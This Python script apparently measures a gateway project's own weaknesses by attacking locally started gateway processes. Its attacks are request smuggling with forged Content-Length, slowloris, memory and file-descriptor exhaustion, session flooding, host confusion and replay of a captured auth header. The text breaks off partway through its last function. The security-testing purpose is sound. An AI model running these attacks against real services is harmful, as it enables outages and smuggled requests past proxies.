"""The attack table of issue 7: every attack against real gateway processes.

Each attack starts its own sidecar (``python -m gateway server``) from the
source tree given with ``--tree`` (default: the repository this script lives
in), in front of a real aiohttp origin running in another process, then
attacks it as a hostile peer (``tests/hostile/peer.py``) or a raw socket
would, and prints one row with the figure the issue quotes. Every attack is
bounded in time and in memory (``--rss-cap``): past a cap it is cut off and
the row says "> cap". Processes are stopped after each attack.

Usage:
    .venv/bin/python bench/attacks.py --scale small            # about a minute or two
    .venv/bin/python bench/attacks.py --scale full --tree /tmp/before   # the issue's figures
    .venv/bin/python bench/attacks.py --only smuggle,slowloris --json
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import re
import resource
import socket
import subprocess
import sys
import time
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import aiohttp
from aiohttp import web

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO))

from tests.hostile import peer as hp  # noqa: E402
from tests.processes import (  # noqa: E402
    ChildProcess,
    GatewayProcess,
    auth_header_in_tree,
    start_gateway,
    unlimited_sessions,
)
from tests.status_page import active_sessions, warm_until_hop  # noqa: E402
from tests.waiting import eventually  # noqa: E402

#: What the origin process prints once both its sites listen.
ORIGIN_PORTS = re.compile(r"origin listening on ports (\d+,\d+)")
MiB = 1024 * 1024

SCALES: dict[str, dict[str, Any]] = {
    "small": {
        "ws_streams": 16,
        "ws_message": 4 * MiB,
        "unread_sessions": 1,
        "unread_streams": 64,
        "unread_seconds": 5.0,
        "posts": 8,
        "post_bytes": 8 * MiB,
        "slowloris": 20,
        "slowloris_seconds": 13.0,
        "poll_sessions": 4,
        "poll_streams": 200,
        "idle_sessions": (300, 1000),
        "idle_grace": (5, 5),
        "opens": 1000,
        "time_cap": 30.0,
    },
    "full": {
        "ws_streams": 256,
        "ws_message": 15 * MiB,
        "unread_sessions": 4,
        "unread_streams": 256,
        "unread_seconds": 20.0,
        "posts": 30,
        "post_bytes": 8 * MiB,
        "slowloris": 200,
        "slowloris_seconds": 110.0,
        "poll_sessions": 85,
        "poll_streams": 256,
        "idle_sessions": (2000, 20000),
        "idle_grace": (20, 150),
        "opens": 5000,
        "time_cap": 150.0,
    },
}


# ------------------------------------------------------------------ the origin


def origin_main() -> None:
    """The real origin, run in its own process (``--serve-origin``).

    Two sites: ``main`` (the upstream) and ``evil`` (a host no gateway may
    reach). Every request is recorded; ``GET /__seen`` lists and clears them.
    """
    _soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    seen: list[dict[str, Any]] = []
    active = {"connections": 0}

    def record(site: str, request: web.Request, body_len: int | None) -> dict[str, Any]:
        entry = {
            "site": site,
            "method": request.method,
            "path": request.raw_path,
            "host": request.headers.get("Host"),
            "xff": request.headers.get("X-Forwarded-For"),
            "via": request.headers.get("Via"),
            "cl": request.headers.get("Content-Length"),
            "te": request.headers.get("Transfer-Encoding"),
            "body": body_len,
            "head_len": len(request.method)
            + 1
            + len(request.raw_path)
            + 11
            + sum(len(k) + len(v) + 4 for k, v in request.raw_headers)
            + 2,
        }
        seen.append(entry)
        return entry

    def make_app(site: str) -> web.Application:
        async def seen_route(request: web.Request) -> web.Response:
            out = list(seen)
            if request.query.get("clear", "1") == "1":
                seen.clear()
            return web.json_response({"seen": out, "connections": active["connections"]})

        async def ws_route(request: web.Request) -> web.StreamResponse:
            record(site, request, None)
            ws = web.WebSocketResponse(max_msg_size=0)
            await ws.prepare(request)
            async for msg in ws:
                if msg.type in (aiohttp.WSMsgType.TEXT, aiohttp.WSMsgType.BINARY):
                    await ws.send_str(f"got {len(msg.data)}")
            return ws

        async def stream_route(request: web.Request) -> web.StreamResponse:
            record(site, request, None)
            resp = web.StreamResponse()
            await resp.prepare(request)
            chunk = b"s" * 65536
            for _ in range(16384):  # at most 1 GiB per stream
                await resp.write(chunk)
            return resp

        async def hold_route(request: web.Request) -> web.StreamResponse:
            record(site, request, None)
            active["connections"] += 1
            try:
                await asyncio.sleep(float(request.query.get("s", "300")))
            finally:
                active["connections"] -= 1
            return web.Response(text="held")

        async def any_route(request: web.Request) -> web.StreamResponse:
            # GETs leave their body unread, as many origins do: whatever
            # follows on the connection is then parsed as the next request.
            body = await request.read() if request.method in ("POST", "PUT") else None
            entry = record(site, request, None if body is None else len(body))
            return web.json_response(entry)

        app = web.Application(client_max_size=64 * MiB)
        app.router.add_get("/__seen", seen_route)
        app.router.add_get("/ws", ws_route)
        app.router.add_get("/stream", stream_route)
        app.router.add_get("/hold", hold_route)
        app.router.add_route("*", "/{tail:.*}", any_route)
        return app

    async def main() -> None:
        ports = []
        for site in ("main", "evil"):
            runner = web.AppRunner(make_app(site), access_log=None, handler_cancellation=True)
            await runner.setup()
            await web.TCPSite(runner, "127.0.0.1", 0, backlog=4096).start()
            ports.append(runner.addresses[0][1])
        # "another host" on the default port, for targets that turn into host:80
        with contextlib.suppress(OSError):
            runner = web.AppRunner(make_app("evil:80"), access_log=None)
            await runner.setup()
            await web.TCPSite(runner, "127.0.0.1", 80).start()
        print(f"origin listening on ports {ports[0]},{ports[1]}", flush=True)
        await asyncio.Event().wait()

    asyncio.run(main())


# --------------------------------------------------------------- processes


def rss_mib(gw: GatewayProcess) -> float:
    """Resident set size of the gateway, in MiB; 0 once it is gone."""
    with contextlib.suppress(OSError, LookupError):
        return gw.rss_kib() / 1024
    return 0.0


def open_fds(gw: GatewayProcess) -> int:
    try:
        return len(os.listdir(f"/proc/{gw.pid}/fd"))
    except OSError:
        return 0


def established_to(port: int) -> int:
    """TCP connections in ESTABLISHED whose local port is ``port`` (the origin's side)."""
    count = 0
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        with contextlib.suppress(OSError):
            for line in Path(table).read_text().splitlines()[1:]:
                fields = line.split()
                if fields[3] == "01" and int(fields[1].rsplit(":", 1)[1], 16) == port:
                    count += 1
    return count


class Lab:
    """Starts origins and gateways from one source tree; stops what it started."""

    def __init__(self, tree: Path, python: str) -> None:
        self.tree = tree
        self.python = python
        self.procs: list[GatewayProcess] = []
        self.origin: ChildProcess | None = None
        self.origin_port = 0
        self.origin_url = ""
        self.evil_url = ""
        self.evil_port = 0

    def start_origin(self) -> None:
        self.origin = ChildProcess.start(
            [sys.executable, str(Path(__file__).resolve()), "--serve-origin"],
            name="attack origin",
            env={"PYTHONPATH": str(REPO)},
            announce=ORIGIN_PORTS,
            keep_lines=2000,
        )
        main, evil = map(int, self.origin.wait_announced().split(","))
        self.origin_port = main
        self.origin_url = f"http://127.0.0.1:{main}"
        self.evil_port = evil
        self.evil_url = f"http://127.0.0.1:{evil}"

    def gateway(self, role: str, *args: str, **options: Any) -> GatewayProcess:
        """A gateway of the tree under test (``start_gateway`` options: nofile, listen)."""
        gw = start_gateway(
            role, *args, tree=self.tree, python=self.python, keep_lines=20000, **options
        )
        self.procs.append(gw)
        return gw

    def sidecar(self, *args: str, **kw: Any) -> GatewayProcess:
        return self.gateway("server", "--upstream", self.origin_url, *args, **kw)

    def stop_gateways(self) -> None:
        for proc in reversed(self.procs):
            proc.stop()
        self.procs.clear()

    def stop(self) -> None:
        self.stop_gateways()
        if self.origin is not None:
            self.origin.stop()

    async def seen(self, http: aiohttp.ClientSession) -> list[dict[str, Any]]:
        """What both origin sites received since the last call."""
        async with http.get(self.origin_url + "/__seen") as resp:
            entries = (await resp.json())["seen"]
        return [e for e in entries if e["path"] != "/__seen"]


# ------------------------------------------------------------------ helpers


@dataclass
class Row:
    key: str
    attack: str
    figure: str
    numbers: dict[str, Any] = field(default_factory=dict)
    kind: str = "broke"  # "broke" (issue item) or "held" (must keep holding)


class Ctx:
    def __init__(self, lab: Lab, scale: dict[str, Any], rss_cap_mib: float) -> None:
        self.lab = lab
        self.s = scale
        self.rss_cap = rss_cap_mib
        self.http = aiohttp.ClientSession(
            connector=aiohttp.TCPConnector(limit=0), timeout=aiohttp.ClientTimeout(total=60)
        )

    async def close(self) -> None:
        await self.http.close()


def mib(x: float) -> str:
    return f"{x:,.0f}"


async def get_status(http: aiohttp.ClientSession, url: str, **kw: Any) -> tuple[int, bytes]:
    async with http.get(url, **kw) as resp:
        return resp.status, await resp.read()


async def raw(port: int, request: bytes, timeout: float = 5.0) -> bytes:
    return await hp.async_raw_exchange("127.0.0.1", port, request, timeout=timeout)


async def watch_rss(gw: GatewayProcess, cap: float, stop: asyncio.Event) -> float:
    """Peak RSS (MiB) sampled every 0.1 s until ``stop``; sets ``stop`` past ``cap``."""
    peak = 0.0
    while not stop.is_set():
        peak = max(peak, rss_mib(gw))
        if peak > cap or not gw.alive():
            stop.set()
            break
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(stop.wait(), 0.1)
    return peak


# ================================================================== attacks
# Each returns a Row; the sidecar is started inside and stopped by the runner.


async def attack_smuggle(ctx: Ctx) -> Row:
    """Item 1: an OPEN's lying Content-Length poisons the pooled upstream connection."""
    lab = ctx.lab
    gw = lab.sidecar()
    await lab.seen(ctx.http)
    bad = 0
    forged_answers = []
    async with hp.HostilePeer(gw.url) as peer:
        for i in range(5):
            sid = peer.sid()
            await peer.send(
                hp.open_http(sid, "GET", f"/forged{i}", [("Host", "x"), ("Content-Length", "60")])
            )
            stream = await peer.complete(sid, 5)
            forged_answers.append(
                "reset" if stream.reset else (stream.head[2] if stream.head else "none")
            )
            status, _ = await get_status(ctx.http, gw.url + f"/legit{i}")
            bad += status == 400
        await asyncio.sleep(0.3)
        first_seen = await lab.seen(ctx.http)
        # A request of our choosing: A declares a length equal to the head the
        # gateway writes for B, so the origin takes B's head as A's body and
        # parses B's body (ours) as the next request.
        await asyncio.sleep(0.5)
        await lab.seen(ctx.http)
        await hp.send_carrier(peer)
        probe = [e for e in await lab.seen(ctx.http) if e["path"] == "/carrier"]
        head_len = probe[0]["head_len"] if probe else 200
        for _ in range(3):
            sid = peer.sid()
            await peer.send(
                hp.open_http(sid, "GET", "/a", [("Host", "x"), ("Content-Length", str(head_len))])
            )
            await peer.complete(sid, 5)
            await hp.send_carrier(peer)
        await asyncio.sleep(0.3)
    seen = await lab.seen(ctx.http)
    smug = [e for e in seen if e["path"] == "/smuggled"]
    lying = [
        e for e in first_seen if e["path"].startswith("/forged") and e["cl"] not in (None, "0")
    ]
    if smug:
        e = smug[0]
        smug_txt = f"yes (Host {e['host']}, X-Forwarded-For {e['xff']}, Via {e['via'] or 'none'})"
    else:
        smug_txt = "no"
    return Row(
        "smuggle",
        "tunnel OPEN with forged Content-Length",
        f"forged CL 60, following legit requests answered 400: {bad}/5; forged streams: "
        f"{','.join(map(str, forged_answers))}; origin got lying CL: {len(lying)}; "
        f"OPEN declaring CL = length of the next head: attacker's request reached the origin: "
        f"{smug_txt}",
        {"legit_400": bad, "smuggled": bool(smug), "lying_cl_at_origin": len(lying)},
    )


async def attack_ws_reassembly(ctx: Ctx) -> Row:
    """Item 2: many WS streams each holding an unfinished message."""
    n, size = ctx.s["ws_streams"], ctx.s["ws_message"]
    gw = ctx.lab.sidecar()  # default flags: 256 streams fit --max-streams
    base = rss_mib(gw)
    stop = asyncio.Event()
    watcher = asyncio.create_task(watch_rss(gw, ctx.rss_cap, stop))
    started = time.monotonic()
    sent_total = 0
    resets = 0
    async with hp.HostilePeer(gw.url, timeout=20) as peer:
        live = await hp.open_websockets(peer, n)
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(ctx.s["time_cap"]):
                sent_total = await hp.push_unfinished(peer, live, size, stop=stop)
        elapsed = time.monotonic() - started
        await asyncio.sleep(1.0)
        resets = sum(1 for s in peer.streams.values() if s.reset)
        closed = peer.closed
    stop.set()
    peak = await watcher
    capped = peak > ctx.rss_cap
    after = f"> cap {mib(ctx.rss_cap)}" if capped else mib(peak)
    return Row(
        "ws_reassembly",
        "unfinished WS messages in one session",
        f"{n} WS streams x unfinished {size // MiB} MiB message: RSS {mib(base)} -> {after} MiB "
        f"in {elapsed:.1f} s; {sent_total / MiB:,.0f} MiB accepted; {resets} streams reset; "
        f"session {'closed ' + str(closed) if closed else 'open'}",
        {
            "rss_before": base,
            "rss_peak": peak,
            "capped": capped,
            "seconds": elapsed,
            "accepted_mib": sent_total / MiB,
            "resets": resets,
        },
    )


async def attack_unread(ctx: Ctx) -> Row:
    """Item 2: streaming responses the peer never reads."""
    ns, nst, secs = ctx.s["unread_sessions"], ctx.s["unread_streams"], ctx.s["unread_seconds"]
    gw = ctx.lab.sidecar()
    base = rss_mib(gw)
    stop = asyncio.Event()
    watcher = asyncio.create_task(watch_rss(gw, ctx.rss_cap, stop))
    peers = []
    samples = []
    try:
        for _ in range(ns):
            p = hp.HostilePeer(gw.url, timeout=20)
            await p.connect()
            peers.append(p)
            sids = [p.sid() for _ in range(nst)]
            for i in range(0, nst, 64):
                await p.send(
                    *(hp.open_http(s, "GET", "/stream", [("Host", "x")]) for s in sids[i : i + 64])
                )
        t0 = time.monotonic()
        while time.monotonic() - t0 < secs and not stop.is_set():
            await asyncio.sleep(1.0)
            samples.append(rss_mib(gw))
    finally:
        for p in peers:
            await p.aclose()
    stop.set()
    peak = await watcher
    growing = len(samples) >= 3 and samples[-1] > samples[len(samples) // 2] + 8
    capped = peak > ctx.rss_cap
    return Row(
        "unread",
        "never-read streaming responses",
        f"{ns} sessions x {nst} never-read streaming responses: RSS {mib(base)} -> "
        f"{'> cap ' + mib(ctx.rss_cap) if capped else mib(peak)} MiB in {secs:.0f} s"
        f"{', still growing' if growing else ', flat'}",
        {"rss_before": base, "rss_peak": peak, "growing": growing, "capped": capped},
    )


async def attack_stalled_posts(ctx: Ctx) -> Row:
    """Item 2: many session POST bodies that never finish."""
    n, size = ctx.s["posts"], ctx.s["post_bytes"]
    gw = ctx.lab.sidecar()
    created = await hp.create_session(ctx.http, gw.url)
    url = f"{gw.url}{hp.SESSION_PATH}/{created.session_id}?epoch=1"
    base = rss_mib(gw)
    head = (
        f"POST {url.split(str(gw.port), 1)[1]} HTTP/1.1\r\nHost: x\r\n"
        f"{hp.TOKEN_HEADER}: {created.token}\r\nContent-Type: application/octet-stream\r\n"
        f"Content-Length: {size}\r\n\r\n"
    ).encode()
    writers = []
    statuses: list[int | None] = []
    body = b"\x00" * (size - 1)  # the last byte never comes
    try:
        for _ in range(n):
            reader, writer = await asyncio.open_connection("127.0.0.1", gw.port)
            writer.write(head)
            writers.append((reader, writer))

        async def push(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            with contextlib.suppress(Exception):
                for i in range(0, size - 1, 1 << 20):
                    writer.write(body[i : i + (1 << 20)])
                    await writer.drain()
            # an early answer (429/413) means the body was refused
            with contextlib.suppress(Exception):
                async with asyncio.timeout(0.5):
                    answer = await reader.read(200)
                    statuses.append(hp.status_of(answer))

        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(ctx.s["time_cap"]):
                await asyncio.gather(*(push(r, w) for r, w in writers))
        await asyncio.sleep(1.0)
        after = rss_mib(gw)
    finally:
        for _, w in writers:
            w.close()
    refused = sum(1 for s in statuses if s is not None and s >= 400)
    answers: dict[str, int] = {}
    for status in statuses:
        answers[str(status)] = answers.get(str(status), 0) + 1
    return Row(
        "stalled_posts",
        "stalled long-poll POSTs on one session",
        f"{n} stalled {size // MiB} MiB session POSTs: +{mib(after - base)} MiB "
        f"(RSS {mib(base)} -> {mib(after)}); answered early with 4xx: {refused}/{n} "
        f"{answers if refused else ''}",
        {"delta_mib": after - base, "refused": refused},
    )


async def attack_slowloris(ctx: Ctx) -> Row:
    """Item 3: connections that send a request head a byte a second."""
    n, secs = ctx.s["slowloris"], ctx.s["slowloris_seconds"]
    gw = ctx.lab.sidecar()
    conns = []
    for _ in range(n):
        conns.append(await asyncio.open_connection("127.0.0.1", gw.port))
    closed_at: list[float] = []
    t0 = time.monotonic()
    head = b"GET /slow HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 100000
    alive = list(range(n))
    i = 0
    while alive and time.monotonic() - t0 < secs:
        still = []
        for k in alive:
            r, w = conns[k]
            try:
                w.write(head[i : i + 1])
                await w.drain()
                if r.at_eof():
                    raise ConnectionResetError
                still.append(k)
            except (ConnectionError, OSError):
                closed_at.append(time.monotonic() - t0)
        alive = still
        i += 1
        # notice a close without waiting for the next write to fail
        for k in list(alive):
            r, _w = conns[k]
            try:
                data = await asyncio.wait_for(r.read(4096), 0.001)
            except TimeoutError:
                continue
            except (ConnectionError, OSError):
                data = b""
            if data == b"" or data.startswith(b"HTTP/"):
                closed_at.append(time.monotonic() - t0)
                alive.remove(k)
        await asyncio.sleep(max(0.0, 1.0 - (time.monotonic() - t0 - (i - 1))))
    for _r, w in conns:
        w.close()
    if closed_at:
        closed_at.sort()
        fig = (
            f"{n} slowloris: {len(closed_at)} closed, first after {closed_at[0]:.0f} s, "
            f"last after {closed_at[-1]:.0f} s (watched {secs:.0f} s)"
        )
    else:
        fig = f"{n} slowloris: none closed in {secs:.0f} s"
    return Row(
        "slowloris",
        "slowloris (a byte a second)",
        fig,
        {"closed": len(closed_at), "first": closed_at[0] if closed_at else None},
    )


async def attack_held_polls(ctx: Ctx) -> Row:
    """Item 3: held polls through many sessions pin origin connections and descriptors.

    Run with the defaults of the tree, and with ``--max-connections 0`` (no
    gateway-wide pool limit, the default before 4b9eac4) to show the
    per-session bound on its own.
    """
    parts = []
    numbers: dict[str, Any] = {}
    for label, extra in (("defaults", ()), ("--max-connections 0", ("--max-connections", "0"))):
        fig, nums = await held_polls_once(ctx, extra)
        parts.append(f"{label}: {fig}")
        numbers[label] = nums
        ctx.lab.stop_gateways()
        await asyncio.sleep(2.0)
    ns, nst = ctx.s["poll_sessions"], ctx.s["poll_streams"]
    return Row(
        "held_polls",
        "held polls through many sessions",
        f"{ns} sessions x {nst} held polls: " + "; ".join(parts),
        numbers,
    )


async def held_polls_once(ctx: Ctx, extra: tuple[str, ...]) -> tuple[str, dict[str, Any]]:
    ns, nst = ctx.s["poll_sessions"], ctx.s["poll_streams"]
    nofile = 20000
    gw = ctx.lab.sidecar(
        *unlimited_sessions(100000),
        *extra,
        nofile=nofile,
    )
    base_fds = open_fds(gw)
    peers = []
    refused_sessions = 0
    try:
        async with asyncio.timeout(ctx.s["time_cap"]):
            for _ in range(ns):
                p = hp.HostilePeer(gw.url, timeout=10)
                try:
                    await p.connect()
                except (ConnectionError, aiohttp.ClientError, TimeoutError, OSError):
                    refused_sessions += 1
                    await p.aclose()
                    continue
                peers.append(p)
                sids = [p.sid() for _ in range(nst)]
                for i in range(0, nst, 64):
                    await p.send(
                        *(
                            hp.open_http(s, "GET", "/hold?s=300", [("Host", "x")])
                            for s in sids[i : i + 64]
                        )
                    )
                await asyncio.sleep(0.05)
    except TimeoutError:
        pass
    await asyncio.sleep(3.0)
    origin_conns = established_to(ctx.lab.origin_port)
    fds = open_fds(gw)
    emfile = gw.count("Too many open files")
    status_ok = False
    with contextlib.suppress(Exception):
        async with asyncio.timeout(5):
            status, _ = await get_status(ctx.http, gw.url + "/legit")
            status_ok = status == 200
    for p in peers:
        with contextlib.suppress(Exception):
            await p.aclose()
    fig = (
        f"{origin_conns:,} origin connections, sidecar descriptors {base_fds} -> {fds:,} of "
        f"{nofile:,}; sessions refused {refused_sessions}; 'Too many open files' lines "
        f"{emfile:,}; legit request then: {'ok' if status_ok else 'failed'}"
    )
    return fig, {
        "origin_connections": origin_conns,
        "fds": fds,
        "emfile": emfile,
        "legit_ok": status_ok,
    }


async def attack_fd_lockout(ctx: Ctx) -> Row:
    """Item 3: at a descriptor limit of 1,024, 1,100 idle sockets lock legitimate clients out."""
    gw = ctx.lab.sidecar(nofile=1024)
    socks = []
    for _ in range(1100):
        try:
            socks.append(socket.create_connection(("127.0.0.1", gw.port), timeout=2))
        except OSError:
            break
    await asyncio.sleep(2.0)
    lines_before = gw.line_count
    t0 = time.monotonic()
    ok = 0
    for _ in range(5):
        with contextlib.suppress(Exception):
            async with asyncio.timeout(3):
                status, _ = await get_status(ctx.http, gw.url + "/legit")
                ok += status == 200
    await asyncio.sleep(max(0.0, 5.0 - (time.monotonic() - t0)))
    floods = gw.count("Too many open files")
    log_rate = (gw.line_count - lines_before) / max(0.1, time.monotonic() - t0)
    for s in socks:
        s.close()
    return Row(
        "fd_lockout",
        "idle sockets at a descriptor limit of 1,024",
        f"1,100 idle sockets (limit 1,024): legit requests ok {ok}/5; 'Too many open files' "
        f"lines {floods:,} (log {log_rate:,.0f} lines/s)",
        {"legit_ok": ok, "emfile_lines": floods},
    )


async def attack_idle_sessions(ctx: Ctx) -> Row:
    """Item 4: idle sessions cost, creation time, and RSS after expiry."""
    parts = []
    numbers: dict[str, Any] = {}
    for n, grace in zip(ctx.s["idle_sessions"], ctx.s["idle_grace"], strict=True):
        gw = ctx.lab.sidecar(
            *unlimited_sessions(n + 10),
            "--resume-grace",
            str(grace),
        )
        await asyncio.sleep(0.5)
        base = rss_mib(gw)
        t0 = time.monotonic()
        made = 0
        refused: dict[int, int] = {}
        capped = False
        sem = asyncio.Semaphore(16)

        async def one(
            gw: GatewayProcess = gw, sem: asyncio.Semaphore = sem, refused: dict[int, int] = refused
        ) -> None:
            nonlocal made, capped
            async with sem:
                if capped:
                    return
                c = await hp.create_session(ctx.http, gw.url)
                if c.status == 200:
                    made += 1
                else:
                    refused[c.status] = refused.get(c.status, 0) + 1
                if made % 200 == 0 and rss_mib(gw) > ctx.rss_cap:
                    capped = True

        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(ctx.s["time_cap"] * 2):
                await asyncio.gather(*(one() for _ in range(n)))
        created_s = time.monotonic() - t0
        peak = rss_mib(gw)
        active = left = await live_sessions(ctx, gw)

        async def none_left(gw: GatewayProcess = gw) -> bool:
            nonlocal left
            left = await live_sessions(ctx, gw)
            return left == 0

        # wait for every session to expire (no transport for --resume-grace)
        await eventually(none_left, grace + 30, interval=2.0)
        await asyncio.sleep(2.0)
        after = rss_mib(gw)
        per = (peak - base) * 1024 / max(made, 1)
        cap_txt = f"> cap after {made:,}: " if capped else ""
        parts.append(
            f"{n:,} idle sessions: {cap_txt}{per:,.0f} KB each (RSS {mib(base)} -> "
            f"{mib(peak)} MiB, {active:,} live), created in {created_s:.1f} s"
            f"{', refused ' + str(refused) if refused else ''}; RSS after expiry "
            f"{mib(after)} MiB ({left} left)"
        )
        numbers[str(n)] = {
            "kb_each": per,
            "create_s": created_s,
            "rss_base": base,
            "rss_peak": peak,
            "rss_after_expiry": after,
            "made": made,
            "capped": capped,
            "left": left,
        }
        gw.stop()
    return Row("idle_sessions", "idle hop sessions", "; ".join(parts), numbers)


async def live_sessions(ctx: Ctx, gw: GatewayProcess) -> int:
    """The gateway's active hop sessions; -1 when its status page does not answer."""
    with contextlib.suppress(Exception):
        return await active_sessions(ctx.http, gw.url)
    return -1


async def attack_fill_sessions(ctx: Ctx) -> Row:
    """Item 4: one address fills --max-sessions; a legitimate client gateway then."""
    gw = ctx.lab.sidecar()  # defaults: --max-sessions 1000
    t0 = time.monotonic()
    made = 0
    statuses: dict[int, int] = {}
    # The attacker comes from 127.0.0.2, the legitimate gateway from 127.0.0.1.
    attacker = aiohttp.ClientSession(
        connector=aiohttp.TCPConnector(limit=16, local_addr=("127.0.0.2", 0))
    )

    async def one() -> None:
        nonlocal made
        c = await hp.create_session(attacker, gw.url)
        statuses[c.status] = statuses.get(c.status, 0) + 1
        made += c.status == 200

    try:
        async with asyncio.timeout(60):
            await asyncio.gather(*(one() for _ in range(1100)))
    finally:
        await attacker.close()
    fill_s = time.monotonic() - t0
    full = statuses.get(503, 0) > 0
    client = ctx.lab.gateway("client", "--upstream", gw.url)
    up: dict[str, Any] = {"transport": "?", "last_error": ""}
    with contextlib.suppress(Exception):
        up = await warm_until_hop(ctx.http, client.url, timeout=10)
    transport, err = up["transport"], up["last_error"]
    legit = f"{transport}" + (f" ({err[:60]})" if err and transport == "plain" else "")
    return Row(
        "fill_sessions",
        "--max-sessions filled from one address",
        f"1,100 session creations from one address (127.0.0.2) in {fill_s:.1f} s: "
        f"{made} opened, answers {dict(sorted(statuses.items()))}; --max-sessions "
        f"{'filled' if full else 'not filled'}; legit client gateway then: {legit}",
        {"made": made, "statuses": statuses, "filled": full, "legit_transport": transport},
    )


async def attack_host_confusion(ctx: Ctx) -> Row:
    """Item 5: absolute targets the edge does not recognise, built by concatenation."""
    lab = ctx.lab
    results = []
    numbers: dict[str, Any] = {}
    # (upstream, target): the issue's case and resolvable cousins of it.
    cases = [
        ("http://v", f"m://127.0.0.1:{lab.evil_port}/leak"),
        # the same concatenation with a name that resolves here: host "localhost", port 80
        ("http://localhos", f"t://127.0.0.1:{lab.evil_port}/leak"),
        (lab.origin_url, f"m://127.0.0.1:{lab.evil_port}/leak"),
        (lab.origin_url, f"HTTP://127.0.0.1:{lab.evil_port}/leak"),
    ]
    await lab.seen(ctx.http)
    for upstream, target in cases:
        gw = lab.gateway("server", "--upstream", upstream)
        answer = await raw(gw.port, f"GET {target} HTTP/1.1\r\nHost: x\r\n\r\n".encode(), 5)
        gw.stop()
        seen = await lab.seen(ctx.http)
        evil = [e for e in seen if e["site"].startswith("evil")]
        connected = f"yes ({evil[0]['site']} got {evil[0]['path']})" if evil else "no"
        results.append(
            f"GET {target.replace(str(lab.evil_port), 'PORT')} with --upstream "
            f"{upstream.replace(str(lab.origin_port), 'ORIGIN')}: {hp.status_of(answer)}, "
            f"reached another host: {connected}"
        )
        numbers[f"{upstream} {target}"] = {"status": hp.status_of(answer), "evil": bool(evil)}
    return Row("host_confusion", "absolute-form targets at a sidecar", "; ".join(results), numbers)


async def attack_status_confusion(ctx: Ctx) -> Row:
    lab = ctx.lab
    gw = lab.sidecar()
    answer = await raw(gw.port, b"GET HTTP://evil/.hopgate/status HTTP/1.1\r\nHost: evil\r\n\r\n")
    answered = hp.status_of(answer) == 200 and b'"version"' in answer
    await lab.seen(ctx.http)
    opt = await raw(gw.port, b"OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n")
    side_seen = await lab.seen(ctx.http)
    client = lab.gateway("client", "--upstream", lab.origin_url, "--upgrade", "never")
    opt_c = await raw(client.port, b"OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n")
    client_seen = await lab.seen(ctx.http)
    fwd = ", ".join(f"{e['method']} {e['path']}" for e in client_seen) or "nothing"
    side_fwd = ", ".join(f"{e['method']} {e['path']}" for e in side_seen) or "nothing"
    hop_client = lab.gateway("client", "--upstream", gw.url)
    with contextlib.suppress(Exception):
        await warm_until_hop(ctx.http, hop_client.url, timeout=10)
    await lab.seen(ctx.http)
    opt_h = await raw(hop_client.port, b"OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n")
    hop_seen = await lab.seen(ctx.http)
    hop_fwd = ", ".join(f"{e['method']} {e['path']}" for e in hop_seen) or "nothing"
    return Row(
        "status_confusion",
        "HTTP:// status and OPTIONS *",
        f"GET HTTP://evil/.hopgate/status answered by the status page: "
        f"{'yes' if answered else 'no'} ({hp.status_of(answer)}); OPTIONS * at a sidecar: "
        f"{hp.status_of(opt)} (origin saw {side_fwd}); at a client gateway: "
        f"{hp.status_of(opt_c)} (origin saw {fwd}); at a client gateway over a hop: "
        f"{hp.status_of(opt_h)} (origin saw {hop_fwd})",
        {
            "status_answered": answered,
            "options_sidecar": hp.status_of(opt),
            "options_client": hp.status_of(opt_c),
            "client_forwarded": fwd,
            "options_hop": hp.status_of(opt_h),
            "hop_forwarded": hop_fwd,
        },
    )


async def attack_bad_numbers(ctx: Ctx) -> Row:
    """Item 6: numbers that isdigit() accepts but int() rejects, and huge ones."""
    lab = ctx.lab
    gw = lab.sidecar("--hop-secret", "s3cret")
    out = []
    numbers: dict[str, Any] = {}
    for label, stamp in (("'²'", "²"), ("5000 digits", "9" * 5000)):
        answers = []
        for version, nonce in (("v1", ""), ("v2", " " + "0" * 32)):
            req = (
                f"POST {hp.SESSION_PATH} HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n"
                f"{hp.AUTH_HEADER}: {version} {stamp}{nonce} {'0' * 64}\r\n\r\n"
            ).encode()
            status = hp.status_of(await raw(gw.port, req))
            answers.append(f"{status} ({version})")
            numbers[f"stamp {label} {version}"] = status
        out.append(f"hop-secret time stamp {label}: {' / '.join(answers)}")
    gw.stop()
    gw = lab.sidecar()
    c = await hp.create_session(ctx.http, gw.url)
    for q in ("last=0&epoch=%C2%B2", "last=%C2%B2&epoch=1", "epoch=%C2%B2"):
        method = "POST" if q == "epoch=%C2%B2" else "GET"
        req = (
            f"{method} {hp.SESSION_PATH}/{c.session_id}?{q} HTTP/1.1\r\nHost: x\r\n"
            f"{hp.TOKEN_HEADER}: {c.token}\r\nContent-Length: 0\r\n\r\n"
        ).encode()
        status = hp.status_of(await raw(gw.port, req, 3))
        out.append(f"{method} ?{q}: {status}")
        numbers[q] = status
    return Row("bad_numbers", "bad numbers in headers and queries", "; ".join(out), numbers)


async def attack_replay(ctx: Ctx) -> Row:
    """Item 7: a captured hop-secret header opens a second session."""
    gw = ctx.lab.sidecar("--hop-secret", "s3cret")
    # The header a client gateway of the tree under test sends, captured once.
    made = auth_header_in_tree("s3cret", tree=ctx.lab.tree, python=ctx.lab.python)
    header = {hp.AUTH_HEADER: made}
    first = await hp.create_session(ctx.http, gw.url, header)
    second = await hp.create_session(ctx.http, gw.url, header)
    return Row(
        "replay",
        "captured hop-secret header replayed",
        f"captured hop-secret header: first use {first.status}, replayed {second.status}: "
        f"{'accepted' if second.status == 200 else 'refused'}",
        {"first": first.status, "replayed": second.status},
    )


async def attack_status_details(ctx: Ctx) -> Row:
    gw = ctx.lab.sidecar(listen="0.0.0.0:0")
    out = []
    numbers = {}
    probes = [
